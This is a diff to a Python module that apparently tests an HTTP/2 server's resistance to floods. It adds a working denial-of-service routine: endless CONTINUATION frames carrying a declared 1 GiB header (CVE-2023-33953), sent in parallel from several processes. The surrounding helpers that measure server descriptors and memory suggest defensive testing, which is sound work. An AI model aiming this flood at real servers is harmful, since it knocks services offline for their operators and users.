@@ -165,7 +165,11 @@ def reset_flood(port: int, seconds: float) -> int:
 
 def reset_floods(port: int, seconds: float, count: int = 6) -> int:
     """The same from several processes, each with a connection of its own. Returns how many in all."""
-    command = [sys.executable, __file__, "resets", str(port), str(seconds)]
+    return _in_processes("resets", port, seconds, count)
+
+
+def _in_processes(name: str, port: int, seconds: float, count: int) -> int:
+    command = [sys.executable, __file__, name, str(port), str(seconds)]
     floods = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(count)]
     return sum(int(flood.communicate()[0]) for flood in floods)
 
@@ -182,6 +186,27 @@ def connection_flood(port: int, seconds: float) -> int:
     return count
 
 
+def header_flood(port: int, seconds: float) -> int:
+    """Headers without end in CONTINUATION frames (CVE-2023-33953), over new connections when one is ended. Returns how many frames."""
+    endless = request_headers(port) + b"\0\1a\x7f\x81\xff\xff\xff\x03"  # a header `a` with a value of 1 GiB, as it says
+    rest, sent, end = frame(9, 0, 1, b"x" * 16384), 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            with contextlib.closing(connection(port)) as file:
+                file.sendall(PREFACE + SETTINGS + frame(1, 0, 1, endless))
+                while time.monotonic() < end:
+                    file.sendall(rest)
+                    sent += 1
+        except OSError:
+            time.sleep(0.001)
+    return sent
+
+
+def header_floods(port: int, seconds: float, count: int = 3) -> int:
+    """The same from several processes, each with a connection of its own. Returns how many in all."""
+    return _in_processes("headers", port, seconds, count)
+
+
 def open_descriptors(process: "subprocess.Popen[str]") -> int:
     return len(os.listdir(f"/proc/{process.pid}/fd"))
 
@@ -193,4 +218,4 @@ def allocated_bytes(process: "subprocess.Popen[str]") -> int:
 
 
 if __name__ == "__main__":
-    print({"resets": reset_flood}[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3])))
+    print({"headers": header_flood, "resets": reset_flood}[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3])))
